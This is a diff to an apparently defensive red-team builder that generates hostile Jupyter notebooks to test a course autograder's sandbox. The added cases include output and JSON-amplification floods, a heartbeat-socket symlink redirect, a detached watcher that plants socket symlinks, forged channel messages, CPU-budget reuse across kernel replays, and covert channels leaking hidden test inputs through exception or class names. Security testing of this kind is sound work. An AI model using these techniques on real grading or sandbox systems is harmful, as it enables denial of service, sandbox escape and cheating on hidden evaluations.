@@ -53,8 +53,8 @@ WRONG01 = {
 }
 WRITTEN01 = ("why_held_out", "Because the held-out sentences are longer.")  # deliberately wrong
 #: the first answer cell of each notebook: the prelude goes there. It runs before any test cell, so that what it prints
-#: reaches the feedback page (the grader withholds what a notebook prints after its first hidden test case), and the
-#: attack's own code goes there too wherever it can (FIRST05)
+#: reaches the feedback page whatever the grader does later (it withheld what a notebook printed after its first hidden
+#: test case until the hidden cases moved after the last cell), and the attack's own code goes there too wherever it can
 FIRST = {"05": "dot_score", "01": "count_ngrams"}
 FIRST05 = FIRST["05"]
 LAST_ANSWER = {"05": "brown_dog", "01": "perplexity"}
@@ -83,7 +83,13 @@ _RTNAME = @@NAME@@
 # notebook's source, so a page that merely shows this cell's code does not carry it)
 print("RTWB-RAN-" + hashlib.sha256((_RTCFG["ran_token"] + ":" + _RTNAME).encode()).hexdigest()[:16], flush=True)
 def _rt_res(key, value):
-    print("RT-RESULT[%s]=%s" % (key, str(value).replace("\n", " ")[:600]), flush=True)
+    line = "RT-RESULT[%s]=%s" % (key, str(value).replace("\n", " ")[:600])
+    print(line, flush=True)
+    try:   # the runner also reads this file from the host while the kernel lives (/proc/PID/cwd): what the grader's
+        with open("rtwb-results.txt", "a") as _f:   # calls print, or a replay's kernel, never reaches the page
+            _f.write(line + "\n")
+    except OSError:
+        pass
 try:
     with open("rtwb-whoami", "w") as _f:   # the kernel's working folder: the runner maps its processes to this attack
         _f.write(_RTNAME)
@@ -681,7 +687,8 @@ _rt_res("directories", _RT_C02)
 @attack("c03_memfd_memory", "limits",
         "writes 24 memfds of 220 MB with write(2), never mapping them: 5.2 GB of RAM the kernel's RLIMIT_AS "
         "(--memory-mb 4096) does not count; holds it a few seconds",
-        "memfd bytes held by the kernel (the runner reads /proc/PID/fd) above --memory-mb")
+        "memfd bytes held by the kernel (the runner reads /proc/PID/fd) above all a kernel may hold (--memory-mb + "
+        "--disk-mb + 2 x --tmp-mb: the cgroup's limit as root)")
 def _(nb, cfg):
     first = r'''
 _RT_MEMFD = []
@@ -851,6 +858,68 @@ time.sleep(4)
     return build_notebook(nb, **with_prelude("d05_unread_channel_frames", cfg, suffix={FIRST05: code}))
 
 
+@attack("d06_output_allowance", "output",
+        "prints 96 MB in 256 KB pieces in its first cell (more than the submission's 64 MB output allowance, which the "
+        "watchdog enforces from CountingChannel's count of what arrives; fewer messages than zmq drops), then carries on",
+        "it finished sending (its results file, read from the host) and its kernel was not stopped for output")
+def _(nb, cfg):
+    code = r'''
+_chunk = ("RTWB-D06 " + "o" * 90 + "\n") * 2621   # 256 KB a message, 384 messages: fewer than zmq's high-water
+for _i in range(384):                                 # mark of 1000, so that none is dropped on the way
+    sys.stdout.write(_chunk)
+    sys.stdout.flush()
+_rt_res("d06_sent_mb", 384 * len(_chunk) >> 20)
+time.sleep(2)
+'''
+    return build_notebook(nb, **with_prelude("d06_output_allowance", cfg, suffix={FIRST05: code}))
+
+
+@attack("d07_iopub_frames_uncounted", "output",
+        "sends on IOPub, which the grader reads, multipart messages of 120 frames of 31 MB (3.7 GB each, from one 31 MB "
+        "buffer sent without copying): zmq's MAXMSGSIZE limits a frame, not a message, and CountingChannel counts a "
+        "message once it is whole, so the grading worker holds all of it first (or, past the worker's memory limit, zmq "
+        "drops the connection and reconnects: the message is never counted); three times, 3 s apart",
+        "the worker's memory (RSS, or its peak VmHWM reset per submission) grew by more than 1 GiB while grading it")
+def _(nb, cfg):
+    code = r'''
+_k = get_ipython().kernel
+_blob = memoryview(b"R" * (31 << 20))
+for _round in range(3):
+    try:
+        _msg = _k.session.msg("display_data", {"data": {"text/plain": "RTWB-D07"}, "metadata": {}, "transient": {}},
+                              parent=_k.get_parent())
+        _frames = _k.session.serialize(_msg, ident=[b"display_data"])
+        _k.iopub_socket.send_multipart(_frames + [_blob] * 120, copy=False)
+        _rt_res("d07_sent_%d" % _round, "120 frames of 31 MB")
+    except Exception as _e:
+        _rt_res("d07_sent_%d" % _round, repr(_e)[:200])
+    time.sleep(3)
+'''
+    return build_notebook(nb, **with_prelude("d07_iopub_frames_uncounted", cfg, suffix={FIRST05: code}))
+
+
+@attack("d08_reply_json_amplification", "output",
+        "answers every grader call (from the first test cell's describe_names on) with a reply of 28 MB: ten lists of a "
+        "million empty lists. It is within the message cap and counted as 28 MB, but the grader's json.loads and decode "
+        "build 20 million list objects from it (about 1.3 GB and 9 CPU seconds of the worker a reply); the output "
+        "allowance stops the kernel after the third",
+        "the worker's memory (RSS or its peak) grew by more than 1 GiB while grading it")
+def _(nb, cfg):
+    code = r'''
+import course_lib.remote_answer as _rt_ra
+from IPython.display import publish_display_data as _rt_pub
+_RT_D08 = "[" + ",".join(["[" + "[]," * 999999 + "[]]"] * 10) + "]"
+_RT_D08_N = [0]
+def _rt_d08_publish(reply):
+    _RT_D08_N[0] += 1
+    _rt_res("d08_replies", _RT_D08_N[0])
+    _rt_pub({"text/x-course-answer": _RT_D08})
+_rt_ra._publish = _rt_d08_publish
+_rt_res("d08_reply_mb", len(_RT_D08) >> 20)
+'''
+    return build_notebook(nb, **with_prelude("d08_reply_json_amplification", cfg, suffix={FIRST05: code}))
+
+
 # ======================================================================= 5. the grader in the kernel's folder (notebook 01)
 #: ngram_prob right on the visible case (bigrams: a context of one word), wrong (0) on the hidden ones; the first
 #: hidden case (n = 3 on the extra sentences) is the first request over 64 KB, which the grader writes into a file
@@ -980,6 +1049,46 @@ for _label, _path in _rt_places(1):
     return _request_attack("e04_kdir_symlinks_cleanup", plant, cfg, nb)
 
 
+@attack("e05_socket_redirect", "kernel-folder",
+        "in its first cell (after the grader has connected, when sockets/ should be closed to it): renames its heartbeat "
+        "socket file in the grader's sockets/ folder and puts there a symlink to a Unix socket the runner listens on, "
+        "then shuts down the heartbeat connection it accepted: the grader's client reconnects to the same path, "
+        "following the symlink to a socket the kernel named on the host",
+        "the runner's socket was connected to; the kernel replaced a file in the grader's sockets/ folder after it was "
+        "ready", notebook="05")
+def _(nb, cfg):
+    code = r'''
+import socket as _rt_sock
+_cf = json.load(open("connection.json"))
+_rt_res("transport", _cf.get("transport"))
+_hb = "%s-%s" % (_cf.get("ip"), _cf.get("hb_port"))
+try:
+    os.rename(_hb, _hb + ".moved")
+    os.symlink(_RTCFG["redirect_socket"], _hb)
+    _rt_res("hb_replaced", "ok: %s -> %s" % (_hb, os.readlink(_hb)))
+except OSError as _e:
+    _rt_res("hb_replaced", "%s: %s" % (_hb, _e.strerror))
+_cut = 0
+for _fd in os.listdir("/proc/self/fd"):
+    try:
+        if not os.readlink("/proc/self/fd/" + _fd).startswith("socket:"):
+            continue
+        _s = _rt_sock.socket(fileno=os.dup(int(_fd)))
+        try:
+            if _s.family == _rt_sock.AF_UNIX and not _s.getsockopt(_rt_sock.SOL_SOCKET, _rt_sock.SO_ACCEPTCONN) \
+                    and str(_s.getsockname()) == _hb:
+                _s.shutdown(_rt_sock.SHUT_RDWR)   # the heartbeat connection: the grader's client reconnects
+                _cut += 1
+        finally:
+            _s.close()
+    except OSError:
+        continue
+_rt_res("hb_connections_cut", _cut)
+time.sleep(3)
+'''
+    return build_notebook(nb, **with_prelude("e05_socket_redirect", cfg, suffix={FIRST05: code}))
+
+
 # ======================================================================= 6. hidden cases leaking (notebook 05)
 def _hidden_attack(name, cfg, nb, hidden_code, later_print=False, suffix=None, extra=()):
     setup = CORRECT05.replace("@@VIS@@", repr(VISIBLE05)) + hidden_code
@@ -1107,8 +1216,9 @@ def _rt_hidden(fn, args, right):
 _rt_define(_rt_hidden)
 from course_lib.checks import self_attention as _rt_checks
 def _rt_echo(step, i):
-    """The table's right row plus the i-th hidden value recorded (its own right row if none was)."""
-    shift = _RT_H06[i] if i < len(_RT_H06) else 0.0
+    """The table's right row plus the i-th hidden value recorded (plus 0.5 if none was: still a wrong answer, so that
+    the cell scores nothing either way; the hidden cases now run after the last cell, so nothing is recorded)."""
+    shift = _RT_H06[i] if i < len(_RT_H06) else 0.5
     return (_rt_checks._table_steps()[step] + shift).tolist()
 '''
     suffix = {"table_scores": "machines_scores = _rt_echo('scores', 0)\n",
@@ -1127,10 +1237,10 @@ H07_BITS = 20
 @attack("h07_prompt_and_presence_channel", "hidden-cases",
         "records every hidden input's first value, then, in every cell after the first hidden case: sets IPython's "
         "execution count to round(|value| * 1e6) and ends on an expression, so that the cell's prompt on the page "
-        "(In [N]) carries the value (the grader withholds the cell's output, not its number); and 20 extra cells "
-        "print something or nothing by the bits of the first value (round(|value| * 1e4)): a cell that printed shows "
-        "the grader's 'output not shown' line, one that did not shows nothing",
-        "hidden input values decoded from the prompts' numbers or from which of the bit cells show the grader's line")
+        "(In [N]) carries the value; and 20 extra cells print something or nothing by the bits of the first value "
+        "(round(|value| * 1e4)). Since the hidden cases run after the notebook's last cell it has nothing to record "
+        "while its cells run (a value it spells is a demo cell's input)",
+        "hidden input values decoded from the prompts' numbers or from which of the bit cells print")
 def _(nb, cfg):
     code = HIDDEN_FIRST_VALUES + r'''
 _RT_H07 = []
@@ -1153,8 +1263,118 @@ def _rt_bit(j):
 '''
     suffix = {gid: "_rt_emit()\n" for gid in H07_EMIT_CELLS}
     extra = [code_cell("# rtwb-h07-emit\n_rt_emit()\n") for _ in range(6)]
-    extra += [code_cell("# rtwb-h07-bit-%d\nif _rt_bit(%d):\n    print('rtwb')\n" % (j, j)) for j in range(H07_BITS)]
+    extra += [code_cell("# rtwb-h07-bit-%d\nif _rt_bit(%d):\n    print('RTWB-H07-' + 'ON')\n" % (j, j))
+              for j in range(H07_BITS)]
     return _hidden_attack("h07_prompt_and_presence_channel", cfg, nb, code, suffix=suffix, extra=extra)
+
+
+#: h08: the exercises whose hidden verdicts carry one symbol each, in the order of the hidden phase, and the names the
+#: grader still prints in a hidden verdict ("raised KeyError."): the first 64 of Python's own exception types
+H08_EXERCISES = ("dot_score", "scaled_dot_score", "bilinear_score", "additive_score", "attention_scores", "softmax",
+                 "self_attention", "causal_mask")
+H08_NAMES = ("ArithmeticError", "AssertionError", "AttributeError", "BaseException", "BaseExceptionGroup",
+             "BlockingIOError", "BrokenPipeError", "BufferError", "BytesWarning", "ChildProcessError",
+             "ConnectionAbortedError", "ConnectionError", "ConnectionRefusedError", "ConnectionResetError",
+             "DeprecationWarning", "EOFError", "EncodingWarning", "EnvironmentError", "Exception", "ExceptionGroup",
+             "FileExistsError", "FileNotFoundError", "FloatingPointError", "FutureWarning", "GeneratorExit", "IOError",
+             "ImportError", "ImportWarning", "IndentationError", "IndexError", "InterruptedError", "IsADirectoryError",
+             "KeyError", "KeyboardInterrupt", "LookupError", "MemoryError", "ModuleNotFoundError", "NameError",
+             "NotADirectoryError", "NotImplementedError", "OSError", "OverflowError", "PendingDeprecationWarning",
+             "PermissionError", "ProcessLookupError", "RecursionError", "ReferenceError", "ResourceWarning",
+             "RuntimeError", "RuntimeWarning", "StopAsyncIteration", "StopIteration", "SyntaxError", "SyntaxWarning",
+             "SystemError", "SystemExit", "TabError", "TimeoutError", "TypeError", "UnboundLocalError",
+             "UnicodeDecodeError", "UnicodeEncodeError", "UnicodeError", "UnicodeTranslateError")
+#: h08's stream: two values (the first two floating inputs of the first hidden case), 18 bits each: the sign, then
+#: round(|value| * 1e4) in 17 bits; 6 bits a verdict, 8 verdicts
+H08_VALUE_BITS, H08_SCALE = 18, 1e4
+
+
+@attack("h08_builtin_exception_channel", "hidden-cases",
+        "right on the visible inputs; on its first hidden call each of the 8 exercises fails with a verdict that names "
+        "one of 64 of Python's own exception types (the kernel's reply names the type: an AnswerError whose failure "
+        "says kind 'raised', type 'UnicodeDecodeError'): 6 bits a verdict, 48 in all, which carry the first two input "
+        "values of the first hidden case to 4 decimals (its last cell marks where the hidden phase begins). Hidden "
+        "verdicts name only Python's own types, but which one is the student's choice",
+        "two or more hidden input values decoded from the exception names of the hidden verdicts (page or results.json)")
+def _(nb, cfg):
+    code = HIDDEN_FIRST_VALUES + r'''
+from course_lib.grading import AnswerError as _RtAnswerError
+_RT_H08_NAMES = @@NAMES@@
+_RT_H08_EX = @@EXERCISES@@
+_RT_H08 = {"stream": None, "hidden": False}   # "hidden": set by the notebook's last cell (the hidden phase follows)
+def _rt_h08_stream(values):
+    stream = 0
+    for i, v in enumerate(values[:2]):
+        code = (1 if v < 0 else 0) | (min(int(round(abs(v) * @@SCALE@@)), (1 << (@@BITS@@ - 1)) - 1) << 1)
+        stream |= code << (@@BITS@@ * i)
+    return stream
+def _rt_hidden(fn, args, right):
+    if not _RT_H08["hidden"]:   # a demo cell of the notebook calls the functions on inputs of its own: not a hidden case
+        r = right()
+        return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
+    if _RT_H08["stream"] is None:
+        _RT_H08["stream"] = _rt_h08_stream(_rt_first_values(args))
+        _rt_res("h08_values", _rt_first_values(args)[:2])
+    digit = (_RT_H08["stream"] >> (6 * _RT_H08_EX.index(fn))) & 63 if fn in _RT_H08_EX else 0
+    err = _RtAnswerError(fn, "RTWB-H08")
+    err.failure = {"kind": "raised", "type": _RT_H08_NAMES[digit], "text": "", "label": ""}
+    raise err
+_rt_define(_rt_hidden)
+'''
+    code = (code.replace("@@NAMES@@", repr(H08_NAMES)).replace("@@EXERCISES@@", repr(H08_EXERCISES))
+            .replace("@@SCALE@@", repr(H08_SCALE)).replace("@@BITS@@", str(H08_VALUE_BITS)))
+    last = code_cell("_RT_H08['hidden'] = True   # the notebook's last cell: every later call is a hidden case\n")
+    return _hidden_attack("h08_builtin_exception_channel", cfg, nb, code, extra=[last])
+
+
+#: h09 and h10 spell values as h05 does (RTWBv0d278412xn1d5: 'd' for the point, 'n' for minus, 'x' between values)
+RTWB_SPELL = r'''
+def _rt_enc(x):
+    return ("%.6f" % x).rstrip("0").rstrip(".").replace("-", "n").replace(".", "d")
+def _rt_spell(values, limit):
+    out = "RTWBv"
+    for v in values:
+        part = ("x" if out != "RTWBv" else "") + _rt_enc(v)
+        if len(out) + len(part) > limit:
+            break
+        out += part
+    return out
+'''
+
+
+@attack("h09_opaque_type_name", "hidden-cases",
+        "right on the visible inputs; on a hidden case it returns an object of a class it names after the inputs' first "
+        "values (RTWBv0d278412xn1d5): the kernel's encoder sends what is not plain data as its type's name, the grader "
+        "keeps up to 60 letters and digits of it, and the checks' verdict says 'should be a torch.Tensor, but it is a "
+        "RTWBv...' (self_attention: 'got RTWBv...'); the masking leaves digits inside a word alone. No exception at all",
+        "two or more hidden input values decoded from RTWBv... names in the page, results.json or report.md")
+def _(nb, cfg):
+    code = HIDDEN_FIRST_VALUES + RTWB_SPELL + r'''
+def _rt_hidden(fn, args, right):
+    return type(_rt_spell(_rt_first_values(args)[:4], 60), (), {})()
+_rt_define(_rt_hidden)
+'''
+    return _hidden_attack("h09_opaque_type_name", cfg, nb, code)
+
+
+@attack("h10_garbled_reply_quote_break", "hidden-cases",
+        "right on the visible inputs; on a hidden case it publishes, from inside the grader's call, its own reply before "
+        "the real one (the grader takes the first): a dict whose only key is RTWBv<values>'x\" . The grader's decoder says "
+        "\"unknown field 'RTWBv...\\'x\"'\" and the verdict repeats it ('garbled the grader's call (...)'); the key holds "
+        "both quotation marks, so its repr closes early and the quote masking (a quote, no quote inside, a quote not "
+        "followed by a letter) leaves the start of the key in the verdict",
+        "two or more hidden input values decoded from RTWBv... in the page, results.json or report.md")
+def _(nb, cfg):
+    code = HIDDEN_FIRST_VALUES + RTWB_SPELL + r'''
+from IPython.display import publish_display_data as _rt_pub
+def _rt_hidden(fn, args, right):
+    key = _rt_spell(_rt_first_values(args)[:4], 36) + "'x\""
+    _rt_pub({"text/x-course-answer": json.dumps({key: 1})})
+    r = right()
+    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
+_rt_define(_rt_hidden)
+'''
+    return _hidden_attack("h10_garbled_reply_quote_break", cfg, nb, code)
 
 
 # ======================================================================= 7. pages and files people open
@@ -1341,6 +1561,34 @@ def _(nb, cfg):
                                              prefix={"attention_scores": "import ctypes\nctypes.string_at(0)\n"}))
 
 
+@attack("m01_forged_channel_messages", "crash",
+        "the grader's client now reads every IOPub message through CountingChannel._recv, which checks the HMAC "
+        "signature (the kernel holds the key): the kernel sends one stream message with a wrong signature and one valid "
+        "message twice (jupyter_client refuses a signature it has seen), then goes on. A message the grader cannot "
+        "read should cost its submission a readable sentence, not 'autograding failed'",
+        "its 0's reason is unreadable (autograding failed, a traceback, the grader failed), or a control lost its grade")
+def _(nb, cfg):
+    code = r'''
+_k = get_ipython().kernel
+def _rt_m01_frames(text):
+    _msg = _k.session.msg("stream", {"name": "stdout", "text": text}, parent=_k.get_parent())
+    return _k.session.serialize(_msg, ident=[b"stream.stdout"])
+try:
+    _bad = _rt_m01_frames("RTWB-M01 wrong signature\n")
+    _at = _bad.index(b"<IDS|MSG>") + 1
+    _bad[_at] = b"0" * len(_bad[_at])
+    _k.iopub_socket.send_multipart(_bad)
+    _twice = _rt_m01_frames("RTWB-M01 sent twice\n")
+    _k.iopub_socket.send_multipart(_twice)
+    _k.iopub_socket.send_multipart(_twice)
+    _rt_res("m01_sent", "one wrong signature, one message twice")
+except Exception as _e:
+    _rt_res("m01_sent", repr(_e)[:200])
+time.sleep(1)
+'''
+    return build_notebook(nb, **with_prelude("m01_forged_channel_messages", cfg, suffix={FIRST05: code}))
+
+
 # ======================================================================= 9. the jail's gaps
 @attack("s01_seccomp_abi_and_vsock", "jail",
         "what the seccomp filter and the namespaces may not cover: unshare(CLONE_NEWUSER) through the i386 ABI "
@@ -1435,12 +1683,108 @@ _rt_res("root_listing", " ".join(sorted(os.listdir("/"))))
     return build_notebook(nb, **with_prelude("z01_inherited_fds", cfg, suffix={FIRST05: code}))
 
 
+# ======================================================================= 10. the replay (a new kernel after a stop)
+#: r01's and r02's first cell: whether a cell runs in the replay's kernel. The replay runs the student's cells again
+#: with only the grader's pins between them (no check calls into the kernel), so a cell below a test cell can tell
+REPLAY_HELPERS = r'''
+import course_lib.remote_answer as _rt_ra
+_RT_SERVES = [0]
+_rt_serve = _rt_ra.serve
+def _rt_counting_serve(payload):
+    _RT_SERVES[0] += 1
+    return _rt_serve(payload)
+_rt_ra.serve = _rt_counting_serve
+def _rt_kernel_role():
+    """Below a test cell: 'first' when the grader's checks have called into this kernel, 'replay' when none has."""
+    return "first" if _RT_SERVES[0] else "replay"
+'''
+
+
+@attack("r01_replay_cpu_twice", "limits",
+        "right on the visible inputs (so that four test cells wait for their hidden phase), three answer cells each burn "
+        "6 CPU seconds (18 s: under --cpu-seconds 20), then the next cell calls os._exit: a new kernel runs the cells "
+        "above the stop again for the hidden cases, with a CPU budget of its own, and burns another 18 s (or until the "
+        "wall limit): the watchdog keeps the submission's deadline and its output bytes across the replay, not its CPU",
+        "the CPU seconds of all its kernels together (read from /proc) above --cpu-seconds, in two kernels")
+def _(nb, cfg):
+    code = r'''
+def _rt_hidden(fn, args, right):
+    r = right()
+    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
+_rt_define(_rt_hidden)
+''' + REPLAY_HELPERS
+    burn = r'''
+_rt_t0, _rt_w0 = time.process_time(), time.time()
+while time.process_time() - _rt_t0 < 6.0 and time.time() - _rt_w0 < 7.0:
+    sum(range(20000))
+_rt_res("r01_%s_cpu_%s" % (_rt_kernel_role(), "@@CELL@@"), round(time.process_time(), 1))
+'''
+    suffix = {gid: burn.replace("@@CELL@@", gid) for gid in ("table_scores", "table_scaled", "table_weights")}
+    suffix["table_weighted"] = ("_rt_res('r01_exit_' + _rt_kernel_role(), round(time.process_time(), 1))\n"
+                                "time.sleep(0.7)\nos._exit(1)\n")
+    return _hidden_attack("r01_replay_cpu_twice", cfg, nb, code, suffix=suffix)
+
+
+@attack("r02_socket_unlock_window", "kernel-folder",
+        "right on the visible inputs (so that the hidden cases wait), its first cell starts a watcher (its own session, "
+        "out of the kernel's process group) that polls the grader's sockets/ folder every 5 ms; the next answer cell "
+        "calls os._exit. Before the replay's new kernel starts, the grader opens sockets/ again (0777) for it to bind "
+        "its sockets: a watcher that outlived its kernel would rename the socket files there and put symlinks to a Unix "
+        "socket of the runner's in their place, which the grader's new client would connect to",
+        "the runner's second Unix socket connected to; the watcher planted a symlink or outlived grading")
+def _(nb, cfg):
+    code = r'''
+def _rt_hidden(fn, args, right):
+    r = right()
+    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
+_rt_define(_rt_hidden)
+''' + REPLAY_HELPERS + r'''
+_RT_WATCH = r"""
+import os, sys, time
+sockets, target = sys.argv[1], sys.argv[2]
+def note(key, value):
+    with open("rtwb-results.txt", "a") as f:
+        f.write("RT-RESULT[%s]=%s\n" % (key, value))
+end, last, planted = time.time() + 45, 0, 0
+while time.time() < end:
+    if time.time() - last > 1:
+        note("r02_watcher_alive", "%.1f writable=%s" % (time.time(), os.access(sockets, os.W_OK)))
+        last = time.time()
+    if os.access(sockets, os.W_OK):
+        for name in sorted(os.listdir(sockets)):
+            path = os.path.join(sockets, name)
+            try:
+                os.rename(path, path + ".moved")
+                os.symlink(target, path)
+                planted += 1
+            except OSError as e:
+                note("r02_plant_" + name, e.strerror)
+        note("r02_planted", "%d at %.1f" % (planted, time.time()))
+        if planted:
+            break
+    time.sleep(0.005)
+"""
+try:
+    _ip = json.load(open("connection.json")).get("ip", "")
+    _sockets = os.path.dirname(_ip)
+    _RT_WATCHER = subprocess.Popen([sys.executable, "-c", _RT_WATCH, _sockets, _RTCFG["redirect_socket_r02"]],
+                                   start_new_session=True, env=dict(os.environ, RTWB_MARK="r02"))
+    _rt_res("r02_watcher", "pid %d watching %s" % (_RT_WATCHER.pid, _sockets))
+except Exception as _e:
+    _rt_res("r02_watcher", repr(_e)[:200])
+'''
+    suffix = {"table_scores": "time.sleep(1)\n_rt_res('r02_exit_' + _rt_kernel_role(), time.time())\ntime.sleep(0.7)\n"
+                              "os._exit(1)\n"}
+    return _hidden_attack("r02_socket_unlock_window", cfg, nb, code, suffix=suffix)
+
+
 # ---------------------------------------------------------------- building
 DEFAULT_CONFIG = {"scratch": "/tmp/rtwb-scratch", "markers": "/tmp/rtwb-scratch/markers",
                   "canary_existing": "/tmp/rtwb-scratch/canaries/e01-target.txt",
                   "canary_existing_e04": "/tmp/rtwb-scratch/canaries/e04-target.txt",
                   "home": "/tmp/rtwb-scratch/home", "port": 9, "ipc_token_reversed": "NEKOT-CPI-BWTR", "timeout": 8,
-                  "ran_token": "rtwb-default", "vsock_port": 0}
+                  "ran_token": "rtwb-default", "vsock_port": 0, "redirect_socket": "/tmp/rtwb-scratch/canaries/redirect.sock",
+                  "redirect_socket_r02": "/tmp/rtwb-scratch/canaries/redirect-r02.sock"}
 
 
 def build(notebooks_dir, out_dir, cfg=None):
